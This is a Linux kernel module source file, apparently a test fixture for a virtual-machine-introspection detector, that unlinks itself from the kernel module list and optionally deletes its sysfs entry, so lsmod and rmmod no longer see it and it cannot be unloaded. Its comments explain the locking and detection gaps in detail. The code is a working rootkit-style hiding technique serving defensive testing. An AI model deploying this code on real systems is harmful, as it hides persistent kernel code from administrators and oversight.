// SPDX-License-Identifier: GPL-2.0
/*
 * hide_module.ko [sysfs=1] - take this module off the kernel's module list.
 *
 * lsmod reads /proc/modules, which walks the `modules` list (struct module.list) under
 * module_mutex; so does introspection's module walk. On init this module unlinks its own
 * entry, so it disappears from both while its code stays loaded and mapped. What still
 * knows about it: the module address tree (mod_tree, used by __module_address() for oops
 * and kallsyms of module addresses), its pages in the module area, and - unless sysfs=1 -
 * /sys/module/hide_module.
 *
 * Locking: writers of the list hold module_mutex. 6.1 does not export it, so we find it with
 * kallsyms (and refuse without it). We are called from do_init_module(), which does not hold
 * module_mutex while the init function runs.
 *
 * Why list_del_rcu() rather than list_del_init(): the list is also walked under RCU alone
 * (kallsyms lookups, print_modules() in an oops). list_del_rcu() keeps our ->next pointing
 * into the list, so a reader standing on our entry carries on; list_del_init() would send it
 * back to us forever. The poisoned ->prev is never used again: the module has no exit
 * function and, being off the list, cannot be found by delete_module() (rmmod says it does
 * not exist), so free_module() - the only other list_del of this entry - never runs.
 *
 * sysfs=1 also removes /sys/module/hide_module (kobject_del on the module's kobject). That is
 * done a second after init from a work item, because do_init_module() still sends the
 * module's "add" uevent for that kobject after init returns. With it gone, loading
 * hide_module.ko again would succeed and create a second hidden copy; without it, a second
 * load fails because the sysfs name is taken.
 */
#include <linux/module.h>
#include <linux/init.h>
#include <linux/kobject.h>
#include <linux/mutex.h>
#include <linux/rculist.h>
#include <linux/workqueue.h>

#include "vmi_attack.h"

static bool sysfs;
module_param(sysfs, bool, 0);
MODULE_PARM_DESC(sysfs, "also remove /sys/module/hide_module (default: no)");

static void hide_sysfs(struct work_struct *work)
{
	kobject_del(&THIS_MODULE->mkobj.kobj);
	pr_info("vmi-attack: hid module %s from sysfs\n", THIS_MODULE->name);
}
static DECLARE_DELAYED_WORK(hide_sysfs_work, hide_sysfs);

static int __init hide_module_init(void)
{
	struct mutex *module_mutex_p = (struct mutex *)vmi_lookup_name("module_mutex");

	if (!module_mutex_p) {
		pr_err("vmi-attack: cannot find module_mutex\n");
		return -ENOENT;
	}
	mutex_lock(module_mutex_p);
	list_del_rcu(&THIS_MODULE->list);
	mutex_unlock(module_mutex_p);
	pr_info("vmi-attack: hid module %s from the module list\n", THIS_MODULE->name);

	if (sysfs)
		schedule_delayed_work(&hide_sysfs_work, HZ);
	return 0;
}

module_init(hide_module_init);
/* No module_exit: the module cannot be unloaded (and rmmod cannot find it anyway). */

MODULE_LICENSE("GPL");
MODULE_DESCRIPTION("bulwark VMI test: a module that removes itself from the module list");
